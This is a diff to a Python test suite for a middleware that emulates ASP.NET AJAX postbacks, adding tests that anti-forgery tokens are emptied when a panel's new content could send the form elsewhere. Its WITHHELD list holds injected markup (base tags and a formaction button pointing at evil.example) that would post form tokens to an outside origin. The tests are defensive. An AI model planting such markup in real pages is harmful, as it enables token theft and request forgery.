@@ -426,6 +426,12 @@ class CounterApp:
         if what == "Empty":
             start_response("204 No Content", [])
             return []
+        if what in ("HtmlDownload", "Sandboxed"):  # the page itself, kept out of the origin
+            start_response("200 OK", [("Content-Type", "text/html; charset=utf-8"),
+                                      ("Content-Disposition", "attachment; filename=p.html")
+                                      if what == "HtmlDownload" else
+                                      ("Content-Security-Policy", "default-src 'self'; sandbox")])
+            return [page_text(self.count).encode()]
         if what == "NoSetup":
             start_response("200 OK", [("Content-Type", "text/html; charset=utf-8")])
             return [b"<html><body><form method='post' id='form1'>done</form></body></html>"]
@@ -632,7 +638,8 @@ def test_fields_of_the_setup_form_when_the_page_has_two_post_forms() -> None:
 def test_a_page_that_opted_out_is_read_not_edited() -> None:
     bound = Bound()
     _, _, records = run(CounterApp(), environ={"postback.skip": True}, bound=bound)
-    assert by_type(records, "hiddenField") == [("__EVENTTARGET", ""), ("__EVENTARGUMENT", "")]
+    assert by_type(records, "hiddenField") == [("__EVENTTARGET", ""), ("__EVENTARGUMENT", ""),
+                                               ("__VIEWSTATE", ""), ("__EVENTVALIDATION", "")]
     assert by_type(records, "updatePanel")[0][0] == "UpdatePanel1"
     assert bound.calls == [False]
 
@@ -725,6 +732,9 @@ ERRORS = [
     pytest.param("NotHere", ("error", "404", "Not Here"), id="app-404-own-reason"),
     pytest.param("ExportButton", ("error", "200", "OK"), id="file-download"),
     pytest.param("Empty", ("error", "204", "No Content"), id="no-content"),
+    # A page with the panel, sent as a download or sandboxed: never written into the page.
+    pytest.param("HtmlDownload", ("error", "200", "OK"), id="html-page-as-download"),
+    pytest.param("Sandboxed", ("error", "200", "OK"), id="html-page-under-csp-sandbox"),
 ]
 
 
@@ -827,6 +837,40 @@ def test_the_setup_forms_fields_are_told_apart_by_both_tokens() -> None:
     tags = ajax._scan(document, "utf-8")
     assert ajax._form_fields(tags, fields, tags[0], 0) is fields[1]
     assert ajax._form_fields(tags, fields[:1], tags[0], 0) == {}
+
+
+# Markup a panel's new content brings (a user's, rendered as HTML) that sends the setup's form
+# to another origin: the new page gives the form no tokens, and the answer must empty the ones
+# the client holds (Microsoft's client posts form.action, disabled fields included).
+WITHHELD = [
+    pytest.param('<base href="https://evil.example/">', id="base-in-panel"),
+    pytest.param('<base href="//evil.example/">', id="scheme-relative-base-in-panel"),
+    pytest.param('<button formaction="https://evil.example/x">x</button>',
+                 id="offsite-formaction-in-panel"),
+    pytest.param('<button formmethod="get">x</button>', id="get-formmethod-in-panel"),
+]
+
+
+@pytest.mark.parametrize("markup", WITHHELD)
+def test_end_to_end_tokens_withheld_in_the_new_page_are_emptied(markup: str) -> None:
+    posted: list[bool] = []
+
+    def app(environ: dict[str, Any], start_response: Any) -> list[bytes]:
+        posted.append(environ.get("postback.event") is not None)
+        text = page_text(0)
+        if posted[-1]:
+            text = text.replace('<span id="Count">0</span>', f'<span id="Count">0</span>{markup}')
+        start_response("200 OK", [("Content-Type", "text/html; charset=utf-8")])
+        return [text.encode()]
+
+    client = webtest.TestApp(PostbackMiddleware(app, secret_keys=[new_key()], aspnet_ajax=True))
+    page = client.get("/Counter.aspx").text
+    old = dict(FIELD.findall(page))
+    assert old["__VIEWSTATE"] and old["__EVENTVALIDATION"]
+    records = received(async_post(client, page, "UpdatePanel1|LinkButton1", "LinkButton1").body)
+    assert markup in by_type(records, "updatePanel")[0][1]
+    fields = dict(by_type(records, "hiddenField"))
+    assert fields["__VIEWSTATE"] == fields["__EVENTVALIDATION"] == ""
 
 
 def test_end_to_end_redirect_and_error() -> None:
@@ -983,4 +1027,4 @@ def test_a_form_without_tokens_never_gets_another_forms() -> None:
                                    '"https://other.example/" name="x"></button'))
     records = answer_page(page, "UpdatePanel1|X")
     fields = dict(by_type(records, "hiddenField"))
-    assert "__VIEWSTATE" not in fields and "__EVENTVALIDATION" not in fields
+    assert fields["__VIEWSTATE"] == fields["__EVENTVALIDATION"] == ""  # emptied, not the first's
